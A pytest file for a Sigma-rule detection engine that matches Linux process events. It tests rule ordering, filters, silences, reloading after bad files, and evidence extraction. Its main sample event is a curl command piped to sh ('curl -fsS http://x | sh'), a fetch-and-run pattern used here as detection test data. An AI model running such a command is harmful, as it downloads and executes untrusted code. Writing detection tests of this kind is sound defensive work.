"""Rules loaded from files and held against events: what matches, in which order, and what a bad file costs."""

import pytest

from tocsin.sigma.fields.event_view import LONGEST
from tocsin.sigma.fields.record import EventRecord
from tocsin.sigma.matching import evidence
from tocsin.sigma.matching.compiler import predicate
from tocsin.sigma.ruleset import RuleSet
from tocsin.sigma.syntax.ir import And, Atom

from support.event_views import atom, rule, seen

CURL = seen(process={"binary": "/usr/bin/curl", "arguments": "-fsS http://x | sh", "uid": 5, "pod": {"namespace": "shop", "name": "web"}})  # fmt: skip


def text(id: str, detection: str = "Image|endswith: /curl", level: str = "medium", more: str = "") -> str:
    return f"""
title: Rule {id}
id: {id}
name: name_{id}
level: {level}
author: A
taxonomy: tetragon
logsource: {{product: linux, category: process_creation}}
detection:
  selection:
    {detection}
  condition: selection
{more}
"""


def correlation(id: str, rules: str, generate: str = "true", more: str = "group-by: [scope]") -> str:
    return f"""
title: Correlation {id}
id: {id}
correlation:
  type: event_count
  rules: [{rules}]
  timespan: 10s
  condition: {{gte: 3}}
  generate: {generate}
  {more}
"""


def filter(id: str, rules: str, selection: str, more: str = "") -> str:
    return f"""
title: Filter {id}
id: {id}
logsource: {{product: linux, category: process_creation}}
taxonomy: tetragon
filter:
  rules: {rules}
  selection:
    {selection}
  condition: not selection
{more}
"""


SILENCE = "x-silence: {owner: me, reason: known, expires: 2026-06-01T00:00:00Z}"
BEFORE, AFTER = 1_767_225_600 * 10**9, 1_800_000_000 * 10**9
"""The first of January 2026, and a year later."""


def load(previous: RuleSet | None = None, **files: str) -> RuleSet:
    return RuleSet.load({f"{name}.yml": content.encode() for name, content in files.items()}, previous)


def names(ruleset: RuleSet, record: EventRecord = CURL, time_ns: int = BEFORE) -> list[str]:
    return [hit.rule.id for hit in ruleset.match(record, time_ns).hits]


def told(ruleset: RuleSet) -> list[str]:
    return [str(problem) for problem in ruleset.problems if not problem.warning]


def test_what_matches_comes_worst_first() -> None:
    ruleset = load(a=text("a1", level="low"), b=text("b1", level="critical"), c=text("c1"), d=text("d1", "uid: 9"))
    assert told(ruleset) == []
    assert names(ruleset) == ["b1", "c1", "a1"]
    assert names(ruleset, seen(process={"binary": "/bin/ls"})) == []


def test_a_process_that_was_found_running_matches_only_rules_that_ask_for_it() -> None:
    ruleset = load(a=text("a1"), b=text("b1", more="x-existing: true"))
    record = seen(process={"binary": "/usr/bin/curl", "flags": "procFS auid"})
    assert names(ruleset, record) == ["b1"]
    assert names(ruleset) == ["a1", "b1"]


def test_a_filter_takes_its_events_out_of_its_rules_alone() -> None:
    ruleset = load(a=text("a1") + "---" + text("b1"), f=filter("f1", "[name_a1]", "pod.namespace: shop"))
    assert told(ruleset) == []
    assert names(ruleset) == ["b1"]
    assert names(ruleset, seen(process={"binary": "/usr/bin/curl"})) == ["a1", "b1"]
    assert [each.id for each in ruleset.filters_of(ruleset.rules[0])] == ["f1"]


def test_a_filter_for_any_rule_acts_on_those_of_its_logsource() -> None:
    native = text("n1").replace("{product: linux, category: process_creation}", "{product: tetragon, category: exec}")
    ruleset = load(a=text("a1"), n=native, f=filter("f1", "any", "pod.namespace: shop"))
    assert told(ruleset) == []
    assert names(ruleset) == ["n1"]


def test_a_silence_names_itself_until_it_expires() -> None:
    ruleset = load(a=text("a1"), b=text("b1"), s=filter("s1", "[a1]", "pod.namespace: shop", SILENCE))
    hits = ruleset.match(CURL, BEFORE).hits
    assert [(hit.rule.id, hit.silenced_by.id if hit.silenced_by else "") for hit in hits] == [("a1", "s1"), ("b1", "")]
    assert all(hit.silenced_by is None for hit in ruleset.match(CURL, AFTER).hits)
    assert all(hit.silenced_by is None for hit in ruleset.match(seen(process={"binary": "/x/curl"}), BEFORE).hits)
    assert [each.id for each in ruleset.silences] == ["s1"]


def test_a_rule_that_fails_is_named_and_the_others_go_on() -> None:
    ruleset = load(a=text("a1"), b=text("b1", "CommandLine|re: curl"))

    def breaks(_: EventRecord) -> bool:
        raise RuntimeError("this expression is too much " + "x" * 1000)

    broken = ruleset._compiled["b1"]
    index = ruleset._selection._by_kind["exec"]
    index._owners = [
        type(broken)(each.rule, (), breaks, each.hit) if each is broken else each for each in index._owners
    ]
    hits = ruleset.match(CURL, BEFORE)
    assert [hit.rule.id for hit in hits.hits] == ["a1"]
    ((id, why),) = hits.failed
    assert id == "b1"
    assert why.startswith("RuntimeError: this expression")
    assert len(why) <= 200


def test_a_field_that_cannot_be_had_costs_only_the_rules_that_need_it(monkeypatch: pytest.MonkeyPatch) -> None:
    ruleset = load(a=text("a1"), b=text("b1", "flags: execve"))

    def breaks(_: EventRecord) -> tuple[str, ...]:
        raise ValueError("no flags")

    broken = seen(process={"binary": "/usr/bin/curl", "flags": "execve"})
    monkeypatch.setitem(broken._extracts, "flags", breaks)
    hits = ruleset.match(broken, BEFORE)
    assert [hit.rule.id for hit in hits.hits] == ["a1"]
    assert hits.failed == (("b1", "ValueError: no flags"),)


def test_a_bad_document_keeps_its_last_good_version_and_the_rest_is_loaded() -> None:
    first = load(a=text("a1") + "---" + text("b1"), c=text("c1"))
    second = load(first, a=text("a1", "Imge: x") + "---" + text("b1", level="high"), c=text("c1"))
    assert names(second) == ["b1", "a1", "c1"]
    (problem,) = (each for each in second.problems if not each.warning)
    assert problem.kept
    assert problem.rule == "a1"
    assert (problem.file, problem.line) == ("a.yml", 11)
    third = load(second, a=text("a1", "Imge: x") + "---" + text("b1", level="high"), c=text("c1"))
    assert names(third) == ["b1", "a1", "c1"]
    assert third.hash == second.hash != first.hash
    fourth = load(third, a=text("b1", level="high"), c=text("c1"))
    assert names(fourth) == ["b1", "c1"]
    assert told(fourth) == []


def test_a_bad_file_keeps_its_documents_by_their_place() -> None:
    first = load(a=text("a1"))
    second = load(first, a="title: [unclosed")
    assert names(second) == ["a1"]
    assert [each.kept for each in second.problems if not each.warning] == [True]


def test_at_the_first_start_a_bad_document_is_left_out() -> None:
    ruleset = load(a=text("a1", "Imge: x") + "---" + text("b1"))
    assert names(ruleset) == ["b1"]
    assert [each.kept for each in ruleset.problems if not each.warning] == [False]


def test_a_document_that_can_no_longer_be_joined_keeps_its_last_good_version() -> None:
    first = load(a=text("a1"), c=correlation("k1", "a1"))
    second = load(first, a=text("a1"), c=correlation("k1", "a2"))
    assert [each.rules for each in second.correlations] == [("a1",)]
    assert [each.kept for each in second.problems if not each.warning] == [True]
    third = load(second, a=text("a1"), c=correlation("k1", "a2"))
    assert [each.rules for each in third.correlations] == [("a1",)]


def test_unchanged_rules_are_taken_over_as_they_are() -> None:
    first = load(a=text("a1"), b=text("b1"))
    second = load(first, a=text("a1"), b=text("b1", level="high"))
    assert second.rules[0] is first.rules[0]
    assert second._compiled["a1"] is first._compiled["a1"]
    assert second.rules[1] is not first.rules[1]


def test_the_hash_is_that_of_what_judges() -> None:
    one = load(a=text("a1"), b=text("b1"))
    assert one.hash == load(x=text("b1"), y=text("a1")).hash
    assert one.hash != load(a=text("a1")).hash
    assert load().hash == load(a="").hash


def test_counted_are_the_rules_of_correlations_and_silent_those_that_all_of_them_mute() -> None:
    ruleset = load(
        r=text("a1") + "---" + text("b1") + "---" + text("c1"),
        k=correlation("k1", "a1, b1", "false") + "---" + correlation("k2", "b1") + "---" + correlation("k3", "k1"),
    )
    assert told(ruleset) == []
    assert ruleset.counted == {"a1", "b1"}
    assert ruleset.silent == {"a1"}


def test_a_signal_has_what_the_correlations_over_its_rules_need() -> None:
    ruleset = load(
        r=text("a1") + "---" + text("b1"),
        k=correlation("k1", "a1", more="group-by: [scope, pod.labels.app]")
        + "---"
        + correlation("k2", "a1, b1", more="group-by: [who]\n  aliases: {who: {a1: User, b1: pod.name}}")
        + "---"
        + correlation("k3", "k1", more="group-by: [CommandLine]"),
    )
    assert told(ruleset) == []
    assert ruleset.signal_values(["a1"], CURL) == {
        "scope": "shop/web",
        "who@a1": "5",
        "CommandLine": "/usr/bin/curl -fsS http://x | sh",
    }
    assert ruleset.signal_values(["b1"], CURL) == {"who@b1": "web"}
    assert ruleset.signal_values(["none"], CURL) == {}


def test_a_long_value_of_a_signal_is_short_and_still_its_own() -> None:
    ruleset = load(r=text("a1"), k=correlation("k1", "a1", more="group-by: [arguments]"))
    one, two = (
        ruleset.signal_values(["a1"], seen(process={"binary": "/x/curl", "arguments": "x" * 5000 + end}))["arguments"]
        for end in ("a", "b")
    )
    assert one != two
    assert len(one) < 600


MATCHED = atom("Image", "endswith", "/curl")


@pytest.mark.parametrize(
    ("node", "pairs"),
    [
        (MATCHED, [("Image", "/usr/bin/curl")]),
        (atom("", "contains", "http"), [("CommandLine", "/usr/bin/curl -fsS http://x | sh")]),
        (atom("binary", "exists", True), [("binary", "/usr/bin/curl")]),
        (atom("pod.name", "fieldref", "pod.name"), [("pod.name", "web")]),
        (atom("uid", "gte", 5), [("uid", "5")]),
        (atom("parent.binary", "null"), []),
        (atom("Image", "endswith", "/wget"), []),
    ],
)
def test_what_matched_is_told_by_field_and_value(node: Atom, pairs: list[tuple[str, str]]) -> None:
    found = evidence.matched_fields(rule("r", node), CURL)
    assert [(match.field, match.value) for match in found] == pairs


def test_of_what_matched_at_most_eight_are_told_and_the_part_that_counts_of_each() -> None:
    record = seen(process={"binary": "/bin/x", "arguments": "a" * 1000 + "needle" + "b" * 1000, "cwd": "\0" * 10})
    (match,) = evidence.matched_fields(rule("r", atom("arguments", "contains", "NEEDLE")), record)
    assert "needle" in match.value
    assert len(match.value) == 256
    many = rule("r", predicate_of_many())
    assert len(evidence.matched_fields(many, CURL)) == 8
    (match,) = evidence.matched_fields(rule("r", atom("cwd", "exists", True)), record)
    assert match.value == ""


def predicate_of_many() -> And:
    fields = [
        "Image",
        "CommandLine",
        "uid",
        "User",
        "pod.name",
        "pod.namespace",
        "kind",
        "function",
        "event_type",
        "scope",
    ]
    return And(tuple(atom(field, "exists", True) for field in fields))


def test_an_event_that_matches_every_rule_and_one_stuffed_with_their_literals_are_judged() -> None:
    literals = [f"literal-{number}-" for number in range(2000)]
    rules = "---".join(
        text(f"r{n}", f"CommandLine|contains: [{', '.join(literals[n * 10 : n * 10 + 10])}]") for n in range(200)
    )
    ruleset = load(a=rules)
    assert len(ruleset.rules) == 200
    stuffed = " ".join(literals)
    record = seen(process={"binary": "/bin/x", "arguments": stuffed * (2**20 // len(stuffed))})
    assert len(ruleset.match(record, BEFORE).hits) == 200
    assert record.match_truncated
    every = seen(process={"binary": "/bin/x", "arguments": " ".join(literals[::10])})
    assert len(ruleset.match(every, BEFORE).hits) == 200


def test_long_texts_are_judged_as_short_ones_are() -> None:
    literals = ["alpha", "beta", "gamma", "ALPHA BETA"]
    ruleset = load(a="---".join(text(f"r{n}", f"CommandLine|contains: '{each}'") for n, each in enumerate(literals)))
    for filler in ("", "x" * 3000, "x" * (LONGEST // 2)):
        record = seen(process={"binary": "/bin/x", "arguments": f"alpha beta {filler}"})
        assert names(ruleset, record) == ["r0", "r1", "r3"]
        for each in ruleset.rules:
            assert predicate(each.condition)(record) is (each.id != "r2")


@pytest.mark.parametrize("content", [b"\xff\xfe\x00", b"", b"- - -", b"a: &a [*a]", b"\x00" * 1000, b"[" * 5000])
def test_no_content_of_a_file_stops_the_others(content: bytes) -> None:
    ruleset = RuleSet.load({"bad.yml": content, "good.yml": text("a1").encode()})
    assert names(ruleset) == ["a1"]


@pytest.mark.parametrize("broken", [b"", b"# nothing\n", b"\xff\xfe", b"#" * (2 << 20)])
def test_a_file_that_holds_nothing_or_cannot_be_read_as_a_whole_keeps_all_its_rules(broken: bytes) -> None:
    text = "\n---\n".join(
        f"title: {id}\nid: {id}\nlevel: low\nlogsource: {{product: linux, category: process_creation}}\n"
        f"detection: {{sel: {{Image: /bin/{id}}}, condition: sel}}\n"
        for id in ("one", "two")
    )
    first = RuleSet.load({"a.yml": text.encode()})
    assert [rule.id for rule in first.rules] == ["one", "two"]
    second = RuleSet.load({"a.yml": broken}, first)
    assert [rule.id for rule in second.rules] == ["one", "two"]
    [problem] = [each for each in second.problems if not each.warning]
    assert problem.kept
    assert RuleSet.load({"a.yml": broken}).rules == ()
